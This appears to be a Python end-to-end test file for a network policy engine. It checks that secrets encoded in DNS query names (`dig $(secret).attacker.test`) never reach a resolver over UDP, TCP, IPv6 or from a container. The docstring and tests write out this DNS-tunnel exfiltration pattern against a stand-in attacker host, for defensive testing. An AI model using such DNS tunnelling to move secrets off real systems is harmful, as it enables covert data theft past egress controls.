"""The tunnel through the resolver: `dig $(secret).attacker.test`. The query name is the
data; the resolver recurses to the attacker's server without any connection of the client.
A strict policy must keep the secret from ever reaching a DNS server, over UDP and TCP,
one query or many on one socket, from the host, from a container, through a local stub."""

from __future__ import annotations

import uuid
from pathlib import Path

import pytest

from tests.e2e.lab import SERVER_V6, Lab
from tests.e2e.queries import dig, many

POLICY = """
    [[client]]
    name = "everyone"
    policies = ["p"]

    [[policy]]
    name = "p"

    [[policy.rule]]
    name = "dns"
    action = "allow"
    to = ["198.18.0.0/16", "fd00:18::/32"]
    ports = [53]

    [[policy.rule]]
    name = "web"
    action = "allow"
    to = ["*.allowed.test"]
    ports = [80, 443]
"""


def secret() -> str:
    return f"s{uuid.uuid4().hex}"


def test_a_secret_in_a_query_name_never_reaches_the_resolver(lab: Lab, dns_log: Path) -> None:
    lab.start_engine(lab.write_config(POLICY))
    udp, tcp, six = secret(), secret(), secret()
    dig(lab, f"{udp}.attacker.test")
    dig(lab, f"{tcp}.attacker.test", tcp=True)
    dig(lab, f"{six}.attacker.test", server=SERVER_V6)
    burst = [secret() for _ in range(5)]
    many(lab, "udp", ["www.allowed.test"] + [f"{s}.attacker.test" for s in burst])
    piped = [secret() for _ in range(2)]
    many(lab, "tcp", ["www.allowed.test"] + [f"{s}.attacker.test" for s in piped])
    status, answers, _ = dig(lab, "www.allowed.test")
    assert status == "NOERROR" and answers, "allowed names still resolve"
    log = dns_log.read_text()
    assert "www.allowed.test" in log, "the server logs what it gets"
    for leaked in (udp, tcp, six, *burst, *piped):
        assert leaked not in log, f"{leaked} reached the resolver"


@pytest.mark.parametrize("transport", ["udp", "tcp"])
def test_a_container_cannot_tunnel_through_the_resolver(lab: Lab, dns_log: Path,
                                                       transport: str) -> None:
    lab.add_container()
    lab.start_engine(lab.write_config(POLICY, forward_from=["docker0"]))
    leak = secret()
    status, _answers, elapsed = dig(lab, f"{leak}.attacker.test", ns=lab.container,
                                    tcp=transport == "tcp")
    assert leak not in dns_log.read_text()
    assert elapsed < 1.0 and status in ("REFUSED", "error"), (status, elapsed)
